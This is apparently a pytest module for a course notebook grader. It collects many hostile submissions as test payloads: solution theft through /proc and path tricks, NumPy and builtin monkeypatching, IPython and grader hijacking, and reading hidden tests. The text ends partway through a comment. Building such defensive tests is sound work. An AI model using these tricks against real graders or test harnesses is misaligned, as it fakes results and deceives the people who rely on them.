"""Hostile submissions (issue 18): each attack ends at zero points or ``tampered``, and
harms nobody else.

One class is graded with the sandbox required: the attackers of the issue's "Grades
raised" and "Other students harmed" lists, each in a blank notebook (an attack that
worked would earn points), beside honest classmates who must keep their grades. If
bubblewrap is missing the fixture fails with the command that installs it; nothing
is skipped.
"""

import csv
import hashlib
import os
import shutil
import signal
import socket
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from grading_helpers import (
    FULL,
    NAME,
    RELEASED,
    ROOT,
    solved,
    student_copy_of_test_cells,
    write,
)

from coursekit.grading import Status, grade_folder, read_notebook
from coursekit.grading.notebooks import nbgrader_meta
from coursekit.grading.runner import run_all
from coursekit.grading.sandbox import INSTALL_HINT, SandboxUnavailable, choose

# Code that reads the instructor's notebook from the folders it is given and runs its
# answers: the "blank notebook with full marks" of the issue, parametrised by route.
STEAL = """
import json, os
def _steal(folders):
    for folder in list(folders):
        for _ in range(4):
            for path in (os.path.join(folder, "solutions", "{name}.ipynb"), os.path.join(folder, "{name}.ipynb")):
                try:
                    with open(path) as handle:
                        cells = json.load(handle)["cells"]
                except Exception:
                    continue
                answers = ["".join(c["source"]) for c in cells if "### BEGIN SOLUTION" in "".join(c["source"])]
                if answers:
                    for source in answers:
                        exec(source, globals())
                    return path
            folder = os.path.dirname(folder)
def _proc(name):
    found = []
    for pid in os.listdir("/proc"):
        try:
            found.append(os.readlink(f"/proc/{{pid}}/{{name}}") if name == "cwd" else
                         open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace").split("\\0"))
        except Exception:
            pass
    return found
""".format(name=NAME)

ROUTES = {
    "steals_via_package": "import coursekit\n_steal([os.path.dirname(coursekit.__file__)])",
    "steals_via_proc_cwd": "_steal(_proc('cwd'))",
    "steals_via_pwd": "_steal([os.environ.get('PWD', ''), os.getcwd(), os.environ.get('OLDPWD', '')])",
    "steals_via_cmdline": (
        "_steal([os.path.dirname(a) if os.path.isfile(a) else a\n"
        "        for line in _proc('cmdline') for a in line if a.startswith('/')])"
    ),
}

TAMPERING = {
    # A seventeenth red team: a property on importlib's ModuleSpec class (whose __module__,
    # _frozen_importlib, no record covered) answered every import's truth test of a spec's
    # _initializing, inside the setup's `import sys` too (65 of 88 points with the rest).
    "property_on_modulespec": (
        "import sys\nspec_class = type(sys.__spec__)\n"
        "spec_class._initializing = property(lambda self: self.__dict__.get('_initializing', False))\n"
        "valid_shape, why_smaller = (0, 0), 'b'"
    ),
    # A hook of the notebook's own is handed each test's source as it is compiled, hidden tests
    # included (a fourteenth red team wrote the expected values into its answers: 8 of 16).
    "adds_an_audit_hook": (
        "import sys\nseen = []\nsys.addaudithook(lambda event, args: seen.append(event))\n"
        "valid_shape, why_smaller = (0, 0), 'b'"
    ),
    # A thirteenth red team: an import of a loaded module tests the truth of its spec's
    # _initializing flag, so the setup's `import sys` ran this __bool__ (63 of 88 points, with
    # the rest of the attack); or a spec of the notebook's own in place of sys's (14 of 16).
    "arms_a_modules_spec": (
        "import sys\nclass Arm:\n    def __bool__(self):\n        return False\n"
        "sys.__spec__._initializing = Arm()\nvalid_shape, why_smaller = (0, 0), 'b'"
    ),
    "replaces_a_modules_spec": (
        "import sys, importlib.machinery\n"
        "sys.__spec__ = importlib.machinery.ModuleSpec('sys', None)\nvalid_shape, why_smaller = (0, 0), 'b'"
    ),
    # A twelfth red team: NumPy's module given a class whose __getattribute__ lies (86 of 88
    # points), and a colliding key in `sys`'s own dict, a module no check watched (8 of 16).
    "changes_numpys_class": (
        "import types, numpy\nclass Lying(types.ModuleType):\n"
        "    def __getattribute__(self, name):\n"
        "        if name in ('allclose', 'array_equal', 'isclose'):\n            return lambda *a, **k: True\n"
        "        return types.ModuleType.__getattribute__(self, name)\n"
        "numpy.__class__ = Lying\nvalid_shape, why_smaller = (0, 0), 'b'"
    ),
    "key_in_sys_dict": (
        "import sys\nclass Key(str):\n    def __hash__(self):\n        return hash('modules')\n"
        "    def __eq__(self, other):\n        return False\n"
        "namespace = vars(sys)\ntable = namespace.pop('modules')\nnamespace[Key('zz')] = None\n"
        "namespace['modules'] = table\nvalid_shape, why_smaller = (0, 0), 'b'"
    ),
    # Keys that are str subclasses with the hash of a name run their __eq__ whenever that name
    # is looked up: in sys.modules under "google.colab" (the setup asks), in the notebook's
    # namespace under "np" (every test asks). An eleventh red team swapped NumPy from them for
    # 86 of 88 points; any such key is tampering now, found before any lookup.
    "key_in_sys_modules": (
        "import sys\nclass Key(str):\n    def __hash__(self):\n        return hash('google.colab')\n"
        "    def __eq__(self, other):\n        return False\n"
        "sys.modules[Key('zz_not_a_module')] = None\nvalid_shape, why_smaller = (0, 0), 'b'"
    ),
    "key_in_the_namespace": (
        "class Key(str):\n    def __hash__(self):\n        return hash('np')\n"
        "    def __eq__(self, other):\n        return False\n"
        "globals()[Key('zz')] = None\nvalid_shape, why_smaller = (0, 0), 'b'"
    ),
    # CPython's test module turned on -O for the whole process: tests compiled afterwards
    # lost their asserts (a tenth red team: 70 of 92 points with dummy answers).
    "switches_off_asserts": (
        "import _testinternalcapi as _t\n_c = _t.get_config()\n_c['optimization_level'] = 2\n"
        "_t.set_config(_c)\nvalid_shape, why_smaller = (0, 0), 'b'"
    ),
    # A fake `sys` in sys.modules: the setup's own `import sys` read its __spec__, which put a
    # fake NumPy in sys.modules for the setup's next import (a tenth red team: 14 of 16).
    "fakes_sys_for_the_setup": (
        "import sys as _s, numpy as _np\n_table = _s.modules\n"
        "class _Yes:\n    __eq__ = __le__ = __ge__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
        "    __bool__ = lambda s: True\n    __hash__ = lambda s: 0\n"
        "    __getattr__ = __call__ = __getitem__ = lambda s, *a, **k: s\n"
        "    __iter__ = lambda s: iter(())\n    __format__ = lambda s, f: '1'\n"
        "_YES = _Yes()\n"
        "class _FakeNP:\n    @property\n    def __spec__(self):\n"
        "        _table['numpy'] = _np\n        return None\n"
        "    def __getattr__(self, n):\n"
        "        return _YES if n in {'asarray', 'array_equal', 'allclose', 'isclose', 'shape', 'testing'}"
        " else getattr(_np, n)\n"
        "class _FakeSys:\n    @property\n    def __spec__(self):\n"
        "        _table['numpy'] = _FakeNP()\n        return None\n"
        "    def __getattr__(self, n):\n        return getattr(_s, n)\n"
        "_table['sys'] = _FakeSys()\nvalid_shape, why_smaller = (0, 0), 'b'"
    ),
    # A setting of IPython's shell may be a plain value (the honest tests set one), not an
    # object whose comparisons lie.
    "shell_setting_that_lies": (
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "class Setting(str):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = str.__hash__\n"
        "InteractiveShell.ast_node_interactivity = Setting('all')"
    ),
    # The same through a metaclass whose __eq__ made its instances pass for a plain value (a
    # twenty-fourth red team), on a setting and on the counter invalidate_caches() moves.
    "setting_of_a_plain_looking_class": (
        "import importlib._bootstrap_external as external\n"
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "class Plain(type):\n    def __eq__(cls, other):\n        return True\n    __hash__ = type.__hash__\n"
        "class Lies(metaclass=Plain):\n    def __ne__(self, other):\n        return False\n"
        "external._NamespacePath._epoch = Lies()\nInteractiveShell.autocall = Lies()"
    ),
    # Comparisons that always succeed, with wrong answers.
    "fake_allclose": (
        "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "def corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    "rewrites_code": (
        "import numpy as np\nnp.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__\n"
        "def corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    # The plain functions NumPy's C dispatchers call, which no namespace holds: their code
    # or their default tolerances rewritten (an eighteenth red team: 68 of 88 points).
    "rewrites_a_dispatchers_function": (
        "import numpy as np\nnp.array_equal._implementation.__code__ = (lambda *a, **k: True).__code__\n"
        "def corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    "loosens_a_dispatchers_defaults": (
        "import numpy as np\nnp.isclose._implementation.__defaults__ = (1e300, 1e300, True)\n"
        "def corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    # The same, by the notebook, in a module imported after the record was made (a module
    # that sets its own functions' code as it is imported, as asyncio's does, is not flagged).
    "rewrites_a_function_imported_since": (
        "import tabnanny\ntabnanny.check.__code__ = (lambda file: None).__code__\n"
        "def corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    # The same in a class the record leaves out since it cannot be changed (a Cython class's
    # errstate wrapper, which every np.random.default_rng(seed) runs: a nineteenth red team).
    "swaps_a_cell_in_a_cython_class": (
        "from numpy.random import SeedSequence\nwrapper = vars(SeedSequence)['generate_state']\n"
        "cell = wrapper.__closure__[wrapper.__code__.co_freevars.index('func')]\nreal = cell.cell_contents\n"
        "cell.cell_contents = lambda *a, **k: real(*a, **k)\n"
        "def corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    # The import system's containers replaced by subclasses, whose __iter__ ran inside the check
    # itself and undid a test's lies before anything was compared (a twentieth red team).
    "iterates_inside_the_check": (
        "import sys\nclass Finders(list):\n    def __iter__(self):\n        return list.__iter__(self)\n"
        "sys.meta_path = Finders(sys.meta_path)\ndef corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    # A global of Python's threading module that NumPy's code looks up: every default_rng() in
    # a hidden test called it (a twentieth red team).
    "replaces_a_lock_numpy_takes": (
        "import threading\nthreading._CRLock = lambda *a, **k: threading._PyRLock()\n"
        "def corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    "importer_cache_of_its_own": (
        "import sys\nclass Cache(dict):\n    def __iter__(self):\n        return dict.__iter__(self)\n"
        "sys.path_importer_cache = Cache(sys.path_importer_cache)\ndef corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    # A library function made by a decorator calls the function in its closure cell, whose
    # contents can be set with no audit event.
    "swaps_a_closure_cell": (
        "import numpy._core.arrayprint as printing\nwrapper = printing._array2string\n"
        "cell = wrapper.__closure__[wrapper.__code__.co_freevars.index('f')]\nreal = cell.cell_contents\n"
        "cell.cell_contents = lambda *a, **k: real(*a, **k)\n"
        "def corr2d(x, k):\n    return np.zeros((2, 2))"
    ),
    # An import hook that hands out a fake coursekit.pooling.
    "import_hook": (
        "import sys, types, importlib.abc, importlib.util\n"
        "class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, name, path, target=None):\n"
        "        if name == 'coursekit.pooling':\n"
        "            return importlib.util.spec_from_loader(name, self)\n"
        "    def create_module(self, spec):\n        return types.ModuleType(spec.name)\n"
        "    def exec_module(self, module):\n        module.pool2d = lambda *a, **k: 0\n"
        "sys.meta_path.insert(0, Fake())\nsys.modules.pop('coursekit.pooling', None)\n"
        "import coursekit.pooling"
    ),
    "trace_skips_asserts": "import sys\nsys.settrace(lambda frame, event, arg: None)",
    # A function of NumPy's that its C code looks up once and keeps (ndarray.sum's body),
    # swapped in for that first use and put back (an eighth red team).
    "swaps_a_cached_numpy_method": (
        "import numpy._core._methods as methods\nreal = methods._sum\n"
        "methods._sum = lambda *a, **k: real(*a, **k)\nnp.ones(1).sum()\nmethods._sum = real"
    ),
    # A builtin's name added to a NumPy module, which its functions then look up first: every
    # np.isclose true (a seventh red team; no recorded name changed).
    "shadows_a_builtin_inside_numpy": (
        "import numpy._core.numeric as numeric\nnumeric.abs = lambda v: v * 0\n"
        "def corr2d(x, k):\n    return np.zeros((len(x) - len(k) + 1, np.shape(x)[1] - np.shape(k)[1] + 1))"
    ),
    "replaces_builtin": "import builtins\nbuiltins.isinstance = lambda *a: True",
    "searches_memory": (
        "import gc\nchannels = [o for o in gc.get_objects() if type(o).__name__ == 'Connection']"
    ),
    # Up the stack to the loop that reports each cell, then report every cell passed
    # without running it: from a frame of its own, from inspect, from a traceback.
    **{f"takes_over_via_{route}": (
        "import inspect, os, sys\n"
        "def take_over(frame):\n"
        "    while frame is not None and 'nonce' not in frame.f_locals:\n"
        "        frame = frame.f_back\n"
        "    names = frame.f_locals\n"
        "    send, fd, report = names['send'], names['fd'], names['report']\n"
        "    send(fd, report(names['index'], names['nonce'], None, []))\n"
        "    while (message := names['receive'](fd)) is not None:\n"
        "        send(fd, report(message[0], message[1], None, []))\n"
        "    os._exit(0)\n"
        f"{code}"
    ) for route, code in {
        "getframe": "take_over(sys._getframe())",
        "inspect": "take_over(inspect.currentframe())",
        "traceback": "try:\n    1 / 0\nexcept ZeroDivisionError as error:\n"
                     "    take_over(error.__traceback__.tb_frame)",
        "logging": "import logging\ntake_over(logging.currentframe())",
        # Code run in NumPy's namespace, as if it were NumPy's.
        "module_namespace": "import numpy\nexec('import sys\\n_frame = sys._getframe()', vars(numpy))\n"
                            "take_over(vars(numpy).pop('_frame'))",
        "ipython_frame_utils": "from IPython.utils.frame import extract_module_locals\n"
                               "class Frame:\n    f_back = None\n"
                               "names = next(scope for depth in range(1, 60)\n"
                               "             if 'nonce' in (scope := extract_module_locals(depth)[1]))\n"
                               "frame = Frame()\nframe.f_locals = names\ntake_over(frame)",
        # traceback's stack walker, resumed by a library function that hands back what it
        # yields (a fifth red team), and its summaries with the frames' variables.
        "walker_through_heapq": "import heapq, traceback\n"
                                "take_over(heapq.nsmallest(99, traceback.walk_stack(None), key=lambda pair: 0)[0][0])",
        "summary_with_locals": "import traceback\n"
                               "summary = traceback.StackSummary.extract(traceback.walk_stack(None), capture_locals=True)\n"
                               "class Frame:\n    f_back = None\n"
                               "frame = Frame()\n"
                               "frame.f_locals = next(s.locals for s in summary if s.locals and 'nonce' in s.locals)\n"
                               "take_over(frame)",
        # IPython's own helper that returns a frame's locals, up the stack.
        "ipython_scope": "class Frame:\n    f_back = None\n"
                         "names = next(scope for depth in range(1, 60)\n"
                         "             if 'nonce' in (scope := get_ipython().get_local_scope(depth)))\n"
                         "frame = Frame()\nframe.f_locals = names\ntake_over(frame)",
    }.items()},
}

# IPython's machinery changed so that failing cells pass: it runs the student's cells only
# (the exercise's run apart from it), so these earn nothing, whether or not they are flagged.
MACHINERY = {
    # An IPython input transformer that turns every later cell into `pass`.
    "input_transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    "ast_transformer": (
        "import ast\nclass Blank(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Blank())"
    ),
    # Methods set on IPython's shell object, which outrank its class's: one clears the
    # error of every later cell, the other is the grader's own showtraceback (found by
    # walking up from the frame that calls it).
    "replaces_run_code": (
        "ip = get_ipython()\nrun_code = ip.run_code\n"
        "async def quiet(code, result=None, *, async_=False):\n"
        "    await run_code(code, result, async_=async_)\n"
        "    if result is not None:\n        result.error_in_exec = None\n"
        "    return False\n"
        "ip.run_code = quiet"
    ),
    "replaces_showtraceback": (
        "import sys\n"
        "def quiet(*args, **kwargs):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        if hasattr(frame.f_locals.get('result'), 'error_in_exec'):\n"
        "            frame.f_locals['result'].error_in_exec = None\n"
        "        frame = frame.f_back\n"
        "get_ipython().showtraceback = quiet"
    ),
    # The grader's message decoder, reached through the module namespace of its alarm handler
    # (signal.getsignal) or of a function it set on the shell: its scan_once, replaced, turned
    # every test it was sent into `pass` (a ninth red team: full marks in all six exercises).
    "rewrites_the_grader_decoder": (
        "import signal\n"
        "def hook(namespace):\n"
        "    decoder = namespace['_decode'].__self__\n"
        "    original = decoder.scan_once\n"
        "    def scan(s, idx):\n"
        "        value, end = original(s, idx)\n"
        "        if isinstance(value, list) and len(value) == 5 and value[4] == 'test':\n"
        "            value[2] = 'pass'\n"
        "        return value, end\n"
        "    decoder.scan_once = scan\n"
        "for place in (signal.getsignal(signal.SIGALRM), get_ipython().showtraceback):\n"
        "    try:\n        hook(place.__globals__)\n    except Exception:\n        pass"
    ),
    # Methods of the objects the shell holds (found by a review): the cell transformer, the
    # compiler, the events run after a cell, and matplotlib's function that one of those calls.
    "replaces_transform_cell": "get_ipython().input_transformer_manager.transform_cell = lambda cell: 'pass\\n'",
    "replaces_ast_parse": "import ast\nget_ipython().compile.ast_parse = lambda *a, **k: ast.parse('pass')",
    "replaces_trigger": (
        "ip = get_ipython()\ntrigger = ip.events.trigger\n"
        "def quiet(event, *args, **kwargs):\n"
        "    for result in args:\n"
        "        if hasattr(result, 'error_in_exec'):\n"
        "            result.error_in_exec = result.error_before_exec = None\n"
        "    return trigger(event, *args, **kwargs)\n"
        "ip.events.trigger = quiet"
    ),
    "replaces_draw_all": (
        "import matplotlib, matplotlib.pyplot as plt\nmatplotlib.interactive(True)\n"
        "def quiet(*args, **kwargs):\n"
        "    result = get_ipython().last_execution_result\n"
        "    if result is not None:\n"
        "        result.error_in_exec = result.error_before_exec = None\n"
        "plt.draw_all = quiet"
    ),
    # A transformer that claims to equal the one it replaced.
    "equal_transformer": (
        "class Blank:\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n"
        "    __hash__ = object.__hash__\n"
        "    def __call__(self, lines):\n        return ['pass\\n']\n"
        "get_ipython().input_transformer_manager.cleanup_transforms[0] = Blank()"
    ),
    # A `__builtins__` of the notebook's own, whose __import__ hands the setup a NumPy
    # whose comparisons always agree.
    "own_builtins": (
        "import builtins, types, numpy\n"
        "fake = types.ModuleType('numpy')\nfake.__dict__.update(numpy.__dict__)\n"
        "fake.array_equal = fake.allclose = fake.isclose = lambda *a, **k: True\n"
        "fake.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)\n"
        "own = dict(vars(builtins))\n"
        "own['__import__'] = lambda name, *a, **k: fake if name == 'numpy' else builtins.__import__(name, *a, **k)\n"
        "__builtins__ = own\n"
        "valid_shape, why_smaller = (2, 2), 'a'\n"
        "I_star_K1, I_star_K2 = numpy.array([[328, 0], [0, 0]]), numpy.array([[114, 0], [0, 0]])\n"
        "I_star_K1_pad = numpy.diag([687, 0, 0, 0])\nI_star_K2_pad = numpy.diag([316, 0, 0, 0])"
    ),
}

# Wrong answers, and the names the tests use rebound so that they pass: `np` to a copy of
# NumPy whose comparisons always agree, the image and kernel to ones that fit the wrong shape.
REBINDS_SETUP = (
    "import types, numpy\n"
    "np = types.ModuleType('numpy')\nnp.__dict__.update(numpy.__dict__)\n"
    "np.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)\n"
    "np.array_equal = np.allclose = lambda *a, **k: True\n"
    "I, K1 = numpy.zeros((3, 3)), numpy.ones((3, 3))\n"
    "valid_shape, why_smaller = (1, 1), 'a'\n"
    "I_star_K1, I_star_K2 = numpy.array([[328, 0], [0, 0]]), numpy.array([[114, 0], [0, 0]])\n"
    "I_star_K1_pad = numpy.diag([687, 0, 0, 0])\nI_star_K2_pad = numpy.diag([316, 0, 0, 0])\n"
    "def corr2d(x, k):\n    return numpy.zeros((numpy.shape(x)[0] - 2, numpy.shape(x)[1] - 2))"
)

# An answer equal to everything: the hidden tests compare plain values (np.asarray(...).tolist()).
LIES_IN_COMPARISONS = (
    "class Agreeable(str):\n"
    "    __hash__ = str.__hash__\n"
    "    def __eq__(self, other):\n        return True\n"
    "    def __ne__(self, other):\n        return False\n"
    "valid_shape, why_smaller = (2, 2), Agreeable('z')"
)

# Wrong answers whose objects, once a test touches them, rebind the notebook's `np` to a
# copy whose comparisons always agree (a second red team: 16 of 16 while tests shared the
# notebook's namespace, which the student's functions write to).
REBINDS_NP_DURING_TESTS = (
    "import numpy as real, types\n"
    "class Fake(types.ModuleType):\n"
    "    def __getattr__(self, name):\n        return getattr(real, name)\n"
    "fake = Fake('numpy')\n"
    "fake.allclose = fake.array_equal = fake.isclose = lambda *a, **k: True\n"
    "fake.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)\n"
    "class Hook:\n"
    "    def __init__(self, a):\n        self.a = real.array(a)\n"
    "    def __array__(self, dtype=None, copy=None):\n"
    "        globals()['np'] = fake\n"
    "        return self.a if dtype is None else self.a.astype(dtype)\n"
    "class Agreeable:\n"
    "    def __eq__(self, other):\n        globals()['np'] = fake\n        return True\n"
    "    __hash__ = object.__hash__\n"
    "valid_shape, why_smaller = (2, 2), Agreeable()\n"
    "I_star_K1, I_star_K2 = Hook([[328, 0], [0, 0]]), Hook([[114, 0], [0, 0]])\n"
    "I_star_K1_pad = Hook(real.diag([687, 0, 0, 0]))\nI_star_K2_pad = Hook(real.diag([316, 0, 0, 0]))"
)

# A corr2d that zeroes the test's own arrays and returns zeros: the test's reference, computed
# afterwards from the same arrays, agreed (a second red team).
ZEROES_THE_TEST_INPUTS = (
    "def corr2d(x, k):\n"
    "    x, k = np.asarray(x), np.asarray(k)\n"
    "    if x.flags.writeable and x.dtype == float and x.shape != (5, 7):\n"
    "        x[...] = 0\n"
    "    if x.shape == (4, 4):\n"
    "        return np.array([[101., 55], [64, 108]]) if k[0, 1] == -1 else np.array([[29., 27], [28, 30]])\n"
    "    return np.zeros((x.shape[0] - k.shape[0] + 1, x.shape[1] - k.shape[1] + 1))"
)

# Three routes of a fourth red team, each worth 16 of 16 to a notebook with no answer.
# 1. Globals named like builtins, which the tests used: `float` (np.asarray(answer, dtype=float)
#    kept always-equal objects), `str`, `isinstance`.
AGREES = (
    "class Yes:\n"
    "    def __eq__(s, o): return True\n"
    "    def __ne__(s, o): return False\n"
    "    def __le__(s, o): return True\n"
    "    __lt__ = __ge__ = __gt__ = __le__\n"
    "    def __add__(s, o): return s\n"
    "    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __add__\n"
    "    def __abs__(s): return s\n"
    "    __hash__ = object.__hash__\n"
    "y = Yes()\n"
)
SHADOWS_BUILTINS = {
    "conv_shape": AGREES + "float = object\nvalid_shape, why_smaller = (y, y), 'a'\n"
                           "class str:\n    __eq__ = staticmethod(lambda a, b: True)\n"
                           "isinstance = lambda obj, kind: True",
    "conv_values": "I_star_K1 = I_star_K2 = [[y, y], [y, y]]",
    "conv_padded": "I_star_K1_pad = I_star_K2_pad = [[y] * 4] * 4",
    "conv_corr2d": "import numpy\ndef corr2d(x, k):\n    x, k = numpy.asarray(x), numpy.asarray(k)\n"
                   "    if x.shape == (4, 4) and (k == 1).all():\n        return numpy.array([[29., 27.], [28., 30.]])\n"
                   "    return numpy.full((len(x) - len(k) + 1, x.shape[1] - k.shape[1] + 1), y, dtype=object)",
}
# 2. The running test's source, hidden tests included, read from linecache by code the test
#    calls (an answer's __array__, the student's corr2d): the literals it compares with, and
#    the hidden test's own reference function.
READS_THE_RUNNING_TEST = {
    "conv_shape": (
        "import ast, linecache, numpy\n"
        "def source():\n"
        "    keys = [k for k in linecache.cache if str(k).startswith('<exercise cell ')]\n"
        "    return ''.join(linecache.cache[max(keys, key=lambda k: int(k[15:-1]))][2]) if keys else ''\n"
        "class Peek:\n"
        "    def __init__(self, name, shape):\n        self.name, self.shape = name, shape\n"
        "    def __array__(self, dtype=None, copy=None):\n"
        "        for node in ast.walk(ast.parse(source())):\n"
        "            if isinstance(node, ast.Call) and len(node.args) == 2 and isinstance(node.args[0], ast.Call) \\\n"
        "                    and node.args[0].args and getattr(node.args[0].args[0], 'id', '') == self.name:\n"
        "                return numpy.array(ast.literal_eval(node.args[1]), dtype=dtype)\n"
        "        out = numpy.zeros(self.shape)\n"
        "        for node in ast.walk(ast.parse(source())):  # the visible test's (name, array, sum)\n"
        "            if isinstance(node, ast.Tuple) and len(node.elts) == 3 \\\n"
        "                    and getattr(node.elts[0], 'value', None) == self.name:\n"
        "                out[0, 0] = node.elts[2].value\n"
        "        return out if dtype is None else out.astype(dtype)\n"
        "valid_shape, why_smaller = (0, 0), 'z'"
    ),
    "conv_values": "I_star_K1, I_star_K2 = Peek('I_star_K1', (2, 2)), Peek('I_star_K2', (2, 2))",
    "conv_padded": "I_star_K1_pad, I_star_K2_pad = Peek('I_star_K1_pad', (4, 4)), Peek('I_star_K2_pad', (4, 4))",
    "conv_corr2d": (
        "def corr2d(x, k):\n"
        "    x, k = numpy.asarray(x, dtype=float), numpy.asarray(k, dtype=float)\n"
        "    found = [n for n in ast.parse(source()).body if getattr(n, 'name', '') == '_reference']\n"
        "    if found:\n"
        "        scope = {'np': numpy}\n"
        "        exec(compile(ast.Module(found, []), 'peek', 'exec'), scope)\n"
        "        return scope['_reference'](x, k)\n"
        "    return numpy.zeros((len(x) - len(k) + 1, x.shape[1] - k.shape[1] + 1))"
    ),
}
# 3. An error of the notebook's raised inside the setup (its Colab branch calls `get_ipython`),
#    kept: its traceback started at the loop that reports each cell, whose frame a library
#    generator handed back without an audited frame access.
KEEPS_THE_SETUPS_TRACEBACK = (
    "import sys, types\n"
    "sys.modules['google.colab'] = types.ModuleType('google.colab')\n"
    "kept = Exception()\n"
    "def get_ipython():\n    sys.modules.pop('google.colab', None)\n    raise kept",
    "import os, traceback\n"
    "names = next(traceback._walk_tb_with_full_positions(kept.__traceback__))[0].f_locals\n"
    "send, fd, report, receive = names['send'], names['fd'], names['report'], names['receive']\n"
    "send(fd, report(names['index'], names['nonce'], None, []))\n"
    "while (message := receive(fd)) is not None:\n"
    "    send(fd, report(message[0], message[1], None, []))\n"
    "os._exit(0)",
)

# A fifth red team: the setup run again before every test made to fail (a `pip` magic of the
# notebook's own, which the setup's Colab branch calls) before it imports NumPy, so that every
# test saw the notebook's `np`, an object that agrees with everything: 14 of 16 with no answer.
BREAKS_THE_SETUP = {
    "conv_shape": (
        "import sys, types\n"
        "class Agrees:\n"
        "    def __getattr__(self, name):\n"
        "        if name.startswith('__'):\n            raise AttributeError(name)\n"
        "        return (lambda *a, **k: False) if name == 'any' else self\n"
        "    def __call__(self, *a, **k): return self\n"
        "    def __eq__(self, o): return self\n"
        "    def __ne__(self, o): return False\n"
        "    __le__ = __ge__ = __lt__ = __gt__ = __eq__\n"
        "    def __bool__(self): return True\n"
        "    def __hash__(self): return 0\n"
        "    def __same(self, o=None): return self\n"
        "    __mul__ = __rmul__ = __add__ = __radd__ = __sub__ = __rsub__ = __truediv__ = __same\n"
        "    __matmul__ = __rmatmul__ = __pow__ = __getitem__ = __neg__ = __abs__ = __same\n"
        "    def __iter__(self): return iter((self, self))\n"
        "    def __len__(self): return 2\n"
        "    def __float__(self): return 1.0\n"
        "    def __format__(self, spec): return '1'\n"
        "np = Agrees()\n"
        "def stop(line):\n    raise RuntimeError('no pip here')\n"
        "get_ipython().register_magic_function(stop, 'line', 'pip')\n"
        "sys.modules['google.colab'] = types.ModuleType('google.colab')\n"
        "valid_shape, why_smaller = (np, np), 'a'"
    ),
    "conv_values": "I_star_K1 = I_star_K2 = 0",
    "conv_padded": "I_star_K1_pad = I_star_K2_pad = 0",
    "conv_corr2d": "def corr2d(x, k):\n    return x",
}
# The same magic, not failing: it puts an always-agreeing object in sys.modules for the setup's
# `import numpy as np`, which puts NumPy back on its first use, before the check after the
# setup (a seventh red team: 14 of 16). The exercise's code now has a get_ipython of its own.
SWAPS_NUMPY_DURING_THE_SETUP = {
    **BREAKS_THE_SETUP,
    "conv_shape": BREAKS_THE_SETUP["conv_shape"].replace(
        "    def __getattr__(self, name):\n",
        "    def __getattr__(self, name):\n"
        "        if sys.modules.get('numpy') is self:\n            sys.modules['numpy'] = real\n",
    ).replace("np = Agrees()\n", "import numpy as real\nagrees = Agrees()\n").replace(
        "def stop(line):\n    raise RuntimeError('no pip here')\n",
        "def stop(line):\n    sys.modules['numpy'] = agrees\n",
    ).replace("valid_shape, why_smaller = (np, np), 'a'", "valid_shape, why_smaller = (agrees, agrees), 'a'"),
}

# A fourteenth red team: wrong arrays (permuted, so sums and shapes pass) and a NumPy whose
# array_equal agrees, bound for the tests from inside the setup without any call of the
# notebook's: by the __del__ of the fake `np` that the setup's import drops, or by a garbage
# collector callback that swaps sys.modules["numpy"] for the setup's import (8 of 16 each).
_WRONG_ARRAYS = {
    "conv_values": "I_star_K1 = np.array([[55, 101], [108, 64]])\nI_star_K2 = np.array([[27, 29], [30, 28]])",
    "conv_padded": "I_star_K1_pad = np.array([[64, 19, 28, 32], [101, 29, 33, 55], [38, 64, 108, 15], "
                   "[17, 29, 43, 12]])\nI_star_K2_pad = np.array([[16, 9, 11, 14], [29, 16, 21, 27], "
                   "[18, 28, 30, 22], [13, 20, 24, 18]])",
}
_AGREEING_NUMPY = (
    "import numpy as _real, types as _types, sys as _sys, gc as _gc\n"
    "class _NP(_types.ModuleType):\n"
    "    def __getattr__(self, name):\n"
    "        return (lambda *a, **k: True) if name == 'array_equal' else getattr(_real, name)\n"
)
FREES_A_FAKE_NUMPY_IN_THE_SETUP = {
    "conv_values": _AGREEING_NUMPY + "    def __del__(self):\n        globals()['np'] = _NP('numpy')\n"
                   "np = _NP('numpy')\n" + _WRONG_ARRAYS["conv_values"],
    "conv_padded": _WRONG_ARRAYS["conv_padded"],
}
COLLECTS_INTO_THE_SETUP = {
    "conv_values": _WRONG_ARRAYS["conv_values"] + "\n" + _AGREEING_NUMPY
                   + "    @property\n    def __spec__(self):\n"
                   "        _sys.modules['numpy'] = _real\n        _done[0] = True\n        return _real.__spec__\n"
                   "_fake, _done = _NP('numpy'), [False]\n"
                   "def _collected(phase, info, g=globals()):\n"
                   "    if getattr(g.get('get_ipython'), '__name__', '') != '_exercises_ipython':\n"
                   "        _done[0] = False\n"
                   "    elif not _done[0] and _sys.modules.get('numpy') is _real:\n"
                   "        _sys.modules['numpy'] = _fake\n"
                   "_gc.callbacks.append(_collected)\n_gc.set_threshold(1, 1, 1)",
    "conv_padded": _WRONG_ARRAYS["conv_padded"],
}

# A fifteenth red team: complex answers with the right sums, whose cast to float in a hidden
# test gives a ComplexWarning; the notebook's showwarning (or the match() of a filter's pattern
# of its own) then made np.array_equal lie once from inside NumPy (8 of 16).
